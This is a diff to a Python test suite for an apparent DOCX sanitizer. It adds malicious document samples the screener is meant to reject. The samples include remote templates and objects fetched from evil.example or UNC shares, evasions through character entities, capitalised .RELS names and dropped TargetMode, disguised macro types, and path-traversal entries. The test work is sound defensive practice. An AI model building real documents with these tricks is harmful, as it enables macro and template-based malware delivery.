@@ -39,7 +39,7 @@ HARMFUL = {
     "entities in UTF-16": (with_parts({"word/styles.xml": LAUGHS.decode().encode("utf-16")}), "declares entities"),
     "macros": (with_parts({"word/vbaProject.bin": OLE}), "holds macros"),
     "macros by another name": (
-        packed({"[Content_Types].xml": CONTENT_TYPES.replace(b"/>", b'><a ContentType="x.macroEnabled.main+xml"/>'),
+        packed({"[Content_Types].xml": CONTENT_TYPES.replace(b"/>", b'><a ContentType="x.macroEnabled"/></Types>'),
                 "word/document.xml": DOCUMENT}), "holds macros"),
     "an object": (with_parts({"word/embeddings/oleObject1.bin": OLE}), "another program's file"),
     "an object by another name": (with_parts({"word/media/image1.png": OLE}), "another program's file"),
@@ -54,6 +54,25 @@ HARMFUL = {
         "another program's file"),
     "a template from the net": (external(b"attachedTemplate", b"https://evil.example/t.dotm"), "fetches a template"),
     "an object from the net": (external(b"oleObject", b"mhtml:http://evil.example/x!x"), "fetches a template"),
+    **{f"a template from {said.decode()}": (external(b"attachedTemplate", said), "fetches a template") for said in (
+        b"\\\\evil\\s\\x.dotm", b"//evil/s/x.dotm", b"file:///\\\\evil\\s\\x.dotm", b"file://evil/s/x.dotm",
+        b"file:////evil/s/x.dotm", b"&#104;ttp://evil.example/t.dotm", b" HTTPS://evil.example/t.dotm",
+        b"C:\\\\evil\\x.dotm")},
+    "a template by a type in numbers": (
+        external(b"attached&#84;emplate", b"https://evil.example/t.dotm"), "fetches a template"),
+    "a template that is not called external": (
+        with_parts({"word/_rels/settings.xml.rels": (RELATION % (b"attachedTemplate", b"\\\\evil\\s\\x.dotm"))
+                    .replace(b' TargetMode="External"', b"")}), "fetches a template"),
+    "a template in capital letters": (
+        with_parts({"word/_rels/settings.xml.RELS": RELATION % (b"attachedTemplate", b"https://evil.example/t.dotm")}),
+        "fetches a template"),
+    "an object from a drive": (external(b"oleObject", b"file:///C:\\a.xlsx"), "fetches a template"),
+    "a picture from another machine": (external(b"image", b"file://evil/x.png"), "fetches a template"),
+    "relations that cannot be read": (
+        with_parts({"word/_rels/settings.xml.rels": b"<Relationships>"}), "damaged, or no ordinary one"),
+    "macros by a type in numbers": (
+        packed({"[Content_Types].xml": CONTENT_TYPES.replace(b"/>", b'><a ContentType="x.macro&#69;nabled"/></Types>'),
+                "word/document.xml": DOCUMENT}), "holds macros"),
     "a way out": (with_parts({"../../etc/cron.d/x": b"x"}), "damaged, or no ordinary one"),
     "a way out on Windows": (with_parts({"word\\..\\..\\x": b"x"}), "damaged, or no ordinary one"),
     "a place of the machine": (with_parts({"/etc/passwd": b"x"}), "damaged, or no ordinary one"),
@@ -136,7 +155,8 @@ def test_a_template_of_the_house_does_not_matter() -> None:
 
 
 def test_a_link_to_a_page_stays() -> None:
-    assert taken(external(b"hyperlink", b"https://www.example.org/policy")).notes
+    for target in (b"https://www.example.org/policy", b"mailto:a@example.org", b"file:///C:\\a.docx", b"#part"):
+        assert taken(external(b"hyperlink", target)).notes
 
 
 def test_a_file_that_is_packed_without_squeezing_is_taken() -> None:
